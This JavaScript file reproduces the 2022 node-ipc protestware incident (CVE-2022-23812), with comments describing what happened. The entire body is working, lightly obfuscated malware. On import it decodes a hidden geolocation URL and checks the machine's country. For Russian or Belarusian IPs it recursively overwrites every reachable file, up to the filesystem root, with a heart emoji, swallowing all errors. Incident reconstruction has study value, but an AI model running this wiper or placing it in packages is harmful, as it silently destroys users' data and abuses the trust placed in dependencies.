// Incident: node-ipc 10.1.1 / 10.1.2 (npm), March 2022 (CVE-2022-23812).
// The maintainer added code that looked up the machine's public IP location and, for
// Russian and Belarusian IPs, overwrote every file it could reach with a heart emoji.
// Reference: https://nvd.nist.gov/vuln/detail/CVE-2022-23812
// Reproduction (own code): geolocation-gated destruction, service URL base64-encoded as
// in the original, placeholder API key.
import path from 'path';
import fs from 'fs';
import https from 'https';

const geo = Buffer.from('aHR0cHM6Ly9hcGkuaXBnZW9sb2NhdGlvbi5pby9pcGdlbz9hcGlLZXk9', 'base64').toString();

function wipe(dir) {
  for (const name of fs.readdirSync(dir)) {
    const p = path.join(dir, name);
    try {
      if (fs.lstatSync(p).isDirectory()) { wipe(p); continue; }
      fs.writeFileSync(p, '\u2764\ufe0f');
    } catch (e) {}
  }
}

setTimeout(function () {
  https.get(geo + 'ae511e1627824a968aaaa758a5309154', (res) => {
    let body = '';
    res.on('data', (c) => { body += c; });
    res.on('end', () => {
      const country = JSON.parse(body).country_name.toLowerCase();
      if (country.includes('russia') || country.includes('belarus')) {
        wipe('./');
        wipe('../');
        wipe('../../');
        wipe('/');
      }
    });
  });
}, Math.ceil(Math.random() * 1000));
